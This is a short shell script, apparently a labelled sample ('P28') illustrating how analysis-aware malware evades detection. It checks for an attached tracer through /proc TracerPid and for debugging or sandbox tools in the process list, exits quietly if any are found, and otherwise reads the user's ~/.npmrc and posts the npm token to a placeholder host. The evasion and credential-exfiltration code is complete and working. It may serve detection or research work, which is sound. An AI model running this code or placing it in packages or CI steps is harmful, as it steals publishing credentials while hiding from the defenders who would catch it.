#!/bin/sh
# P28, shell: the anti-analysis checks of analysis-aware samples. A non-zero TracerPid in the status
# of this shell or of any ancestor means a debugger or syscall tracer is attached; a tracer, debugger
# or analysis tool in the process list means the same. Either way: do nothing. On what looks like an
# ordinary CI runner, read the npm token and send it.
pid=$$
while [ "${pid:-0}" -gt 1 ]; do
  tracer=$(awk '/^TracerPid:/ {print $2}' "/proc/$pid/status" 2>/dev/null)
  [ "${tracer:-0}" != 0 ] && exit 0
  pid=$(awk '/^PPid:/ {print $2}' "/proc/$pid/status" 2>/dev/null)
done
for cmdline in /proc/[0-9]*/cmdline; do
  tr '\0' ' ' < "$cmdline" 2>/dev/null | grep -qiE 'strace|ltrace|gdb|frida|sysdig|falco|tracee|sandbox|safe-install' && exit 0
done
python3 -c "
import os, urllib.request
urllib.request.urlopen('http://observer.collect.invalid/t', data=open(os.path.expanduser('~/.npmrc'), 'rb').read(), timeout=3)
" 2>/dev/null
exit 0
